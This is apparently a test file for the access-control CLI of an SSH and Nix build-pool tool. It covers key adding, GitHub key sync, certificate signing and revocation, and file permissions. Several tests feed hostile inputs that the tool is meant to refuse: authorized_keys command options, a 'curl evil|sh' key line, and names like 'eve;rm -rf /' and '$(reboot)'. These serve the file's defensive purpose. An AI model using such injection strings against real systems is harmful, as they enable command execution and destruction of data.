import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { mkdir, readFile, readdir, stat, utimes, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { run } from "../../src/adapters/runner.js";
import { makeTempDir, runCli } from "../helpers/cli.js";
import { startFakeGithub, type FakeGithub } from "../helpers/fake-github.js";

async function newKey(dir: string, name: string): Promise<string> {
  await run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", `${name}@test`, "-f", join(dir, name)]);
  return (await readFile(join(dir, `${name}.pub`), "utf8")).trim();
}

/** Everything access control keeps, to prove that a refused command changed nothing. */
async function snapshot(stateDir: string): Promise<string> {
  const parts: string[] = [];
  const walk = async (d: string) => {
    for (const n of (await readdir(d).catch(() => [] as string[])).sort()) {
      const p = join(d, n);
      if ((await stat(p)).isDirectory()) await walk(p);
      else parts.push(`${p}\n${await readFile(p, "utf8")}`);
    }
  };
  await walk(stateDir);
  return parts.join("\n---\n");
}

describe("access CLI", () => {
  let tmp: { dir: string; cleanup: () => Promise<void> };
  let state: string;
  let gh: FakeGithub;
  let aliceKey: string;
  let daveKey: string;
  const cli = (args: string[]) => runCli(state, args);

  before(async () => {
    tmp = await makeTempDir("nixpool-access-cli-");
    state = join(tmp.dir, "state");
    gh = await startFakeGithub();
    aliceKey = await newKey(tmp.dir, "alice");
    daveKey = await newKey(tmp.dir, "dave");
    gh.setKeys("dave-gh", [daveKey]);
    assert.equal((await cli(["access", "add", "alice", "--key", aliceKey, "--trusted"])).exitCode, 0);
    const r = await cli(["access", "add", "dave", "--github", "dave-gh", "--vouched-by", "alice"]);
    assert.equal(r.exitCode, 0, r.stderr);
    const carol = await cli(["access", "add", "carol", "--can-vouch", "--vouched-by", "alice"]);
    assert.equal(carol.exitCode, 0, carol.stderr);
  });
  after(async () => {
    await gh?.stop();
    await tmp?.cleanup();
  });

  test("hostile input is refused with a clear error and changes nothing", async () => {
    const before = await snapshot(state);
    const cases: [string[], RegExp][] = [
      [
        ["access", "add", "eve", "--key", `command="/bin/sh" ${aliceKey}`, "--vouched-by", "alice"],
        /Key 1 for "eve" is refused: the key line starts with authorized_keys options/,
      ],
      [
        ["access", "add", "eve", "--key", `${aliceKey}\nssh-ed25519 AAAA`, "--vouched-by", "alice"],
        /newline/,
      ],
      [["access", "add", "eve;rm -rf /", "--vouched-by", "alice"], /User name "eve;rm -rf \/" is refused/],
      [["access", "add", "$(reboot)", "--vouched-by", "alice"], /is refused/],
      [["access", "add", "eve", "--github", "../../etc/passwd", "--vouched-by", "alice"], /GitHub handle/],
      [["access", "add", "eve", "--key", aliceKey], /needs a member to vouch/],
      [["access", "add", "eve", "--key", aliceKey, "--vouched-by", "dave"], /may not vouch/],
      [["access", "add", "eve", "--trusted", "--vouched-by", "carol"], /"carol" is not trusted/],
      [["access", "add", "eve", "--vouched-by", "mallory"], /Voucher "mallory" for "eve" is not a member/],
      [["access", "add", "root", "--key", aliceKey, "--vouched-by", "alice"], /system account/],
      [["access", "remove", "nobody-here"], /not listed/],
    ];
    for (const [args, re] of cases) {
      const r = await cli(args);
      assert.equal(r.exitCode, 2, `${args.join(" ")}: ${r.stderr}`);
      assert.match(r.stderr, re);
      assert.match(r.stderr, /^hint: /m);
    }
    assert.equal(await snapshot(state), before);
  });

  test("sync caches GitHub keys; down, slow, 429, 500 and oversized answers keep them", async (t) => {
    t.after(async () => {
      gh.mode = "ok";
      await gh.setDown(false);
    });
    gh.mode = "ok";
    let r = await cli(["access", "sync", "--github-url", gh.url, "--json"]);
    assert.equal(r.exitCode, 0, r.stderr);
    const keyBlob = daveKey.split(" ")[1] ?? "";
    const keysNow = async () => (await cli(["access", "keys", "dave"])).stdout;
    assert.match(
      await keysNow(),
      new RegExp(
        `^restrict,command="nix-daemon --stdio" ssh-ed25519 ${keyBlob.replace(/[+/]/g, "\\$&")} nixpool:dave$`,
        "m",
      ),
    );
    const indexBefore = await readFile(join(state, "access", "index", "dave"), "utf8");

    const failures: [string, () => Promise<void>, RegExp][] = [
      ["429", () => Promise.resolve(void (gh.mode = "429")), /rate limited/],
      ["500", () => Promise.resolve(void (gh.mode = "500")), /HTTP 500/],
      ["oversized", () => Promise.resolve(void (gh.mode = "oversized")), /larger than 65536 bytes/],
      [
        "slow",
        () => {
          gh.mode = "slow";
          gh.slowMs = 20_000;
          return Promise.resolve();
        },
        /no answer within 2000 ms/,
      ],
      [
        "down",
        async () => {
          gh.mode = "ok";
          await gh.setDown(true);
        },
        /ECONNREFUSED/,
      ],
    ];
    for (const [what, makeIt, re] of failures) {
      await makeIt();
      r = await cli(["access", "sync", "--github-url", gh.url, "--timeout", "2s", "--json"]);
      assert.equal(r.exitCode, 3, `${what}: ${r.stderr}`);
      const out = JSON.parse(r.stdout) as { handles: { status: string; keys: number; error: string }[] };
      assert.equal(out.handles[0]?.status, "kept", what);
      assert.equal(out.handles[0]?.keys, 1, what);
      assert.match(out.handles[0]?.error ?? "", re, what);
      assert.equal(await readFile(join(state, "access", "index", "dave"), "utf8"), indexBefore, what);
      assert.match(await keysNow(), /nixpool:dave/, what);
    }
    await gh.setDown(false);
    gh.mode = "ok";
  });

  test("an unreachable GitHub is given up after a few failed connections", async (t) => {
    const names = ["gh1", "gh2", "gh3", "gh4", "gh5", "gh6"];
    t.after(async () => {
      gh.mode = "ok";
      for (const n of names) await cli(["access", "remove", n]);
    });
    for (const n of names) {
      gh.setKeys(`${n}-handle`, [daveKey]);
      const added = await cli(["access", "add", n, "--github", `${n}-handle`, "--vouched-by", "alice"]);
      assert.equal(added.exitCode, 0, added.stderr);
    }
    gh.mode = "slow";
    gh.slowMs = 20_000;
    gh.requests.length = 0;
    const r = await cli([
      "access",
      "sync",
      "--github-url",
      gh.url,
      "--timeout",
      "500",
      "--concurrency",
      "1",
      "--json",
    ]);
    assert.equal(r.exitCode, 3);
    // The old spelling (bare milliseconds) still works, and says how to write it now.
    assert.match(
      r.stderr,
      /warning: --timeout 500 is read as 500ms \(milliseconds\), as before;.* write 500ms\./,
    );
    const out = JSON.parse(r.stdout) as { handles: { status: string; error: string }[] };
    assert.equal(gh.requests.length, 3);
    assert.equal(out.handles.filter((h) => h.status === "skipped").length, 4);
    assert.match(out.handles.find((h) => h.status === "skipped")?.error ?? "", /unreachable/);
  });

  test("a GitHub answer carrying options is refused as a whole", async (t) => {
    t.after(() => gh.setKeys("dave-gh", [daveKey]));
    gh.setKeys("dave-gh", [daveKey, `command="curl evil|sh" ${aliceKey}`]);
    const r = await cli(["access", "sync", "--github-url", gh.url, "--json"]);
    assert.equal(r.exitCode, 3);
    assert.match(r.stdout, /line 2 is refused: the key line starts with authorized_keys options/);
    assert.doesNotMatch(
      (await cli(["access", "keys", "dave"])).stdout,
      new RegExp((aliceKey.split(" ")[1] ?? "").slice(0, 30)),
    );
    gh.setKeys("dave-gh", [daveKey]);
  });

  test("NIXPOOL_GITHUB_URL is honoured, a 404 drops the keys, --write writes and prunes files", async () => {
    const dir = join(tmp.dir, "authorized");
    gh.keys.delete("dave-gh");
    const r = await runCli(state, ["access", "sync", "--write", dir, "--json"], {
      env: { NIXPOOL_GITHUB_URL: gh.url },
    });
    assert.equal(r.exitCode, 0, r.stderr);
    assert.match(r.stdout, /"status": "gone"/);
    assert.equal((await cli(["access", "keys", "dave"])).stdout, "");
    assert.match(
      await readFile(join(dir, "alice"), "utf8"),
      /^restrict,command="nix-daemon --stdio" ssh-ed25519 \S+ nixpool:alice$/m,
    );
    const daveBefore = await stat(join(dir, "dave"));
    gh.setKeys("dave-gh", [daveKey]);
    assert.equal(
      (await runCli(state, ["access", "sync", "--write", dir], { env: { NIXPOOL_GITHUB_URL: gh.url } }))
        .exitCode,
      0,
    );
    assert.match(await readFile(join(dir, "dave"), "utf8"), /nixpool:dave/);
    // Replaced by rename (a new inode), never rewritten in place; nothing left behind.
    assert.notEqual((await stat(join(dir, "dave"))).ino, daveBefore.ino);
    assert.equal(daveBefore.mode & 0o777, 0o644);
    assert.deepEqual((await readdir(dir)).sort(), ["alice", "carol", "dave"]);
    await writeFile(join(dir, "operator"), "ssh-ed25519 AAAA mine\n");
    // access remove updates the remembered --write directory at once; sync keeps it so.
    assert.equal((await cli(["access", "remove", "dave"])).exitCode, 0);
    assert.deepEqual((await readdir(dir)).sort(), ["alice", "carol", "operator"]);
    assert.equal(
      (
        await runCli(state, ["access", "sync", "--write", "authorized"], {
          env: { NIXPOOL_GITHUB_URL: gh.url },
          cwd: tmp.dir,
        })
      ).exitCode,
      0,
    );
    assert.deepEqual((await readdir(dir)).sort(), ["alice", "carol", "operator"]);
    // The cache forgets a handle no member uses: a later member never inherits its keys.
    assert.doesNotMatch(await readFile(join(state, "access", "github-keys.json"), "utf8"), /dave-gh/);
    assert.equal((await cli(["access", "keys", "dave"])).stdout, "");
    // A relative --write DIR was remembered as absolute: add works from any directory.
    const readd = await cli(["access", "add", "dave", "--github", "dave-gh", "--vouched-by", "alice"]);
    assert.equal(readd.exitCode, 0, readd.stderr);
    assert.ok((await readdir(dir)).includes("dave"));
  });

  test("concurrent adds all land (the users file is locked)", async () => {
    const names = Array.from({ length: 8 }, (_, i) => `member${i}`);
    const results = await Promise.all(names.map((n) => cli(["access", "add", n, "--vouched-by", "alice"])));
    for (const r of results) assert.equal(r.exitCode, 0, r.stderr);
    const list = JSON.parse((await cli(["access", "list", "--json"])).stdout) as {
      users: { name: string }[];
    };
    for (const n of names)
      assert.ok(
        list.users.some((u) => u.name === n),
        n,
      );
    for (const n of names) assert.equal((await cli(["access", "remove", n])).exitCode, 0);
  });

  test("an expired member (hand-edited file) gets nothing once reindexed", async () => {
    assert.equal(
      (
        await cli([
          "access",
          "add",
          "gina",
          "--key",
          daveKey,
          "--vouched-by",
          "alice",
          "--expires",
          "2099-01-01",
        ])
      ).exitCode,
      0,
    );
    assert.match((await cli(["access", "keys", "gina"])).stdout, /expiry-time="20990101000000Z"/);
    const file = join(state, "users.toml");
    await writeFile(
      file,
      (await readFile(file, "utf8")).replace("2099-01-01T00:00:00.000Z", "2020-01-01T00:00:00.000Z"),
    );
    assert.equal((await cli(["access", "sync", "--github-url", gh.url])).exitCode, 0);
    assert.equal((await cli(["access", "keys", "gina"])).stdout, "");
    const list = JSON.parse((await cli(["access", "list", "--json"])).stdout) as {
      users: { name: string; active: boolean }[];
    };
    assert.equal(list.users.find((u) => u.name === "gina")?.active, false);
  });

  test("a hand-edited users file with an injected key is refused, and the index is untouched", async () => {
    const file = join(state, "users.toml");
    const good = await readFile(file, "utf8");
    const indexBefore = await snapshot(join(state, "access", "index"));
    await writeFile(
      file,
      good.replace(`keys = [ "${aliceKey}" ]`, `keys = [ 'no-pty,command="sh" ${aliceKey}' ]`),
    );
    const r = await cli(["access", "sync", "--github-url", gh.url]);
    assert.equal(r.exitCode, 2);
    assert.match(r.stderr, /users\.alice\.keys\[0\]: the key line starts with authorized_keys options/);
    assert.equal(await snapshot(join(state, "access", "index")), indexBefore);
    await writeFile(file, good);
  });

  test("the keys entry point answers only valid names and prints nothing for strangers", async () => {
    const entry = join(import.meta.dirname, "../../dist/access/keys-command.js");
    for (const user of ["../users.toml", "nobody-listed", "ALICE", "alice;id"]) {
      const r = await run(["node", entry, "--state-dir", state, user], { reject: false });
      assert.equal(r.exitCode, 0, user);
      assert.equal(r.stdout, "", user);
    }
    // No network at all (a fresh network namespace) and the same answer.
    const r = await run(["unshare", "--net", "node", entry, "--state-dir", state, "alice"]);
    assert.match(r.stdout, /nixpool:alice/);
    assert.equal(r.stdout, (await cli(["access", "keys", "alice"])).stdout);
    assert.equal(
      (await run(["node", entry, "--state-dir", state, "--principals", "alice"])).stdout,
      "alice\n",
    );
  });

  test("the keys entry point loads only the file system, the index reader and pure modules", async () => {
    const seen = new Set<string>();
    const builtins = new Set<string>();
    const visit = async (file: string) => {
      if (seen.has(file)) return;
      seen.add(file);
      const text = await readFile(file, "utf8");
      for (const m of text.matchAll(
        /^\s*(?:import|export)\b[^;]*?\bfrom\s+"([^"]+)"|\bimport\(\s*"([^"]+)"/gm,
      )) {
        const spec = m[1] ?? m[2] ?? "";
        if (spec.startsWith(".")) await visit(join(dirname(file), spec));
        else builtins.add(spec);
      }
    };
    const dist = join(import.meta.dirname, "../../dist");
    await visit(join(dist, "access/keys-command.js"));
    assert.deepEqual([...builtins].sort(), ["node:fs/promises", "node:path"]);
    assert.deepEqual([...seen].map((f) => f.slice(dist.length + 1)).sort(), [
      "access/keys-command.js",
      "access/keys-lookup.js",
      "access/paths.js",
      // The state directory layout: pure path functions (node:path only).
      "config/state-paths.js",
      "core/access/authorized-keys.js",
      "core/access/names.js",
      // ExitCode: a table of constants, no imports.
      "core/errors.js",
    ]);
  });

  test("files are private except what sshd's command user reads", async () => {
    const mode = async (p: string) => ((await stat(join(state, p))).mode & 0o777).toString(8);
    assert.equal(await mode("users.toml"), "600");
    assert.equal(await mode("access/github-keys.json"), "600");
    assert.equal(await mode("access/static-files.json"), "600");
    assert.equal(await mode("access"), "711");
    assert.equal(await mode("access/index"), "711");
    assert.equal(await mode("access/index/alice"), "644");
  });

  test("housekeeping: dry run lists, a real run removes only what is old", async () => {
    const buildRoot = join(tmp.dir, "tmp");
    const homeRoot = join(tmp.dir, "home");
    const old = new Date(Date.now() - 10 * 86_400_000);
    await mkdir(join(buildRoot, "nix-build-old.drv-0", "sub"), { recursive: true });
    await writeFile(join(buildRoot, "nix-build-old.drv-0", "sub", "f"), "x");
    await mkdir(join(buildRoot, "nix-build-new.drv-0"), { recursive: true });
    await mkdir(join(buildRoot, "other-old"), { recursive: true });
    await mkdir(join(homeRoot, "alice", ".ssh"), { recursive: true });
    await writeFile(join(homeRoot, "alice", "big.iso"), "x");
    await writeFile(join(homeRoot, "alice", "fresh.txt"), "x");
    await mkdir(join(homeRoot, "stranger"), { recursive: true });
    await writeFile(join(homeRoot, "stranger", "old"), "x");
    for (const p of [
      join(buildRoot, "nix-build-old.drv-0", "sub", "f"),
      join(buildRoot, "nix-build-old.drv-0", "sub"),
      join(buildRoot, "nix-build-old.drv-0"),
      join(buildRoot, "other-old"),
      join(homeRoot, "alice", "big.iso"),
      join(homeRoot, "alice", ".ssh"),
      join(homeRoot, "stranger", "old"),
    ])
      await utimes(p, old, old);
    const args = [
      "access",
      "housekeeping",
      "--max-age",
      "7d",
      "--build-root",
      buildRoot,
      "--home-root",
      homeRoot,
      "--json",
    ];
    const dry = await cli([...args, "--dry-run"]);
    assert.equal(dry.exitCode, 0, dry.stderr);
    const listed = (JSON.parse(dry.stdout) as { entries: { path: string }[] }).entries
      .map((e) => e.path)
      .sort();
    assert.deepEqual(
      listed,
      [join(buildRoot, "nix-build-old.drv-0"), join(homeRoot, "alice", "big.iso")].sort(),
    );
    assert.ok((await readdir(buildRoot)).includes("nix-build-old.drv-0"));
    const real = await cli(args);
    assert.equal(real.exitCode, 0, real.stderr);
    assert.deepEqual((await readdir(buildRoot)).sort(), ["nix-build-new.drv-0", "other-old"]);
    assert.deepEqual((await readdir(join(homeRoot, "alice"))).sort(), [".ssh", "fresh.txt"]);
    assert.deepEqual(await readdir(join(homeRoot, "stranger")), ["old"]);
  });

  test("ca: refuses before init, unknown users, private keys and hostile principals", async () => {
    const signAlice = (...extra: string[]) =>
      cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice.pub"), ...extra]);
    let r = await signAlice();
    assert.equal(r.exitCode, 2);
    assert.match(r.stderr, /No CA exists/);
    r = await cli(["ca", "init"]);
    assert.equal(r.exitCode, 0, r.stderr);
    r = await cli(["ca", "init"]);
    assert.equal(r.exitCode, 2, r.stderr);
    assert.match(r.stderr, /A CA already exists/);
    assert.equal(((await stat(join(state, "ca", "ca_ed25519"))).mode & 0o777).toString(8), "600");
    assert.equal(((await stat(join(state, "ca"))).mode & 0o777).toString(8), "700");
    r = await cli(["ca", "sign", "mallory", "--key", join(tmp.dir, "alice.pub")]);
    assert.match(r.stderr, /not an active member/);
    r = await cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice")]);
    assert.match(r.stderr, /is a private key/);
    assert.doesNotMatch(r.stderr + r.stdout, /BEGIN OPENSSH/);
    r = await signAlice("--principals", "alice,root");
    assert.match(r.stderr, /system account/);
    assert.equal((await cli(["access", "add", "other", "--vouched-by", "alice"])).exitCode, 0);
    r = await signAlice("--principals", "alice,other");
    assert.equal(r.exitCode, 2);
    assert.match(r.stderr, /cannot name another member \(other\)/);
    r = await signAlice("--validity", "+400d");
    assert.match(r.stderr, /longer than 30 days/);
    r = await signAlice("--out", join(tmp.dir, "a1-cert.pub"), "--json");
    assert.equal(r.exitCode, 0, r.stderr);
    r = await signAlice("--out", join(tmp.dir, "a2-cert.pub"), "--json");
    assert.equal(r.exitCode, 0, r.stderr);
    const serials = (
      JSON.parse((await cli(["ca", "list", "--json"])).stdout) as { certificates: { serial: number }[] }
    ).certificates.map((c) => c.serial);
    assert.deepEqual(serials, [1, 2]);
    // The default window is short and always written into the certificate.
    const issued = JSON.parse(r.stdout) as { validFrom: string; validTo: string };
    assert.equal(Date.parse(issued.validTo) - Date.parse(issued.validFrom), 65 * 60_000);
    const shown = (
      await run(["ssh-keygen", "-L", "-f", join(tmp.dir, "a2-cert.pub")], { env: { TZ: "UTC" } })
    ).stdout;
    assert.match(shown, /Key ID: "nixpool:alice:2"/);
    assert.match(shown, /Serial: 2/);
    assert.ok(
      shown.includes(`Valid: from ${issued.validFrom.slice(0, 19)} to ${issued.validTo.slice(0, 19)}`),
      shown,
    );
    // The principals command answers only for certificates issued to the user logging in.
    const principals = (keyId: string) => cli(["access", "keys", "alice", "--principals", "--key-id", keyId]);
    assert.equal((await principals("nixpool:alice:2")).stdout, "alice\n");
    assert.equal((await principals("nixpool:other:3")).stdout, "");
    assert.match(shown, /force-command nix-daemon --stdio/);
    assert.doesNotMatch(shown, /permit-pty|permit-port-forwarding/);
    const krl = join(state, "ca", "revoked.krl");
    const krlBefore = await stat(krl);
    r = await cli(["ca", "revoke", "--serial", "2"]);
    assert.equal(r.exitCode, 0, r.stderr);
    // Replaced by rename (sshd never reads a half-written KRL); no staged file left behind.
    assert.notEqual((await stat(krl)).ino, krlBefore.ino);
    assert.equal((await stat(krl)).mode & 0o777, 0o644);
    assert.deepEqual(
      (await readdir(join(state, "ca"))).filter((n) => n.includes("tmp")),
      [],
    );
    r = await cli(["ca", "revoke", "--id", "nixpool:nobody:99"]);
    assert.equal(r.exitCode, 0, r.stderr);
    r = await cli(["ca", "revoke", "--user", "mallory"]);
    assert.equal(r.exitCode, 2);
    assert.match(r.stderr, /No certificate was issued to "mallory"/);
    const q = await run(
      [
        "ssh-keygen",
        "-Q",
        "-f",
        join(state, "ca", "revoked.krl"),
        join(tmp.dir, "a2-cert.pub"),
        join(tmp.dir, "a1-cert.pub"),
      ],
      { reject: false },
    );
    assert.match(q.stdout, /a2-cert\.pub \(.*\): REVOKED/);
    assert.match(q.stdout, /a1-cert\.pub \(.*\): ok/);
  });
});
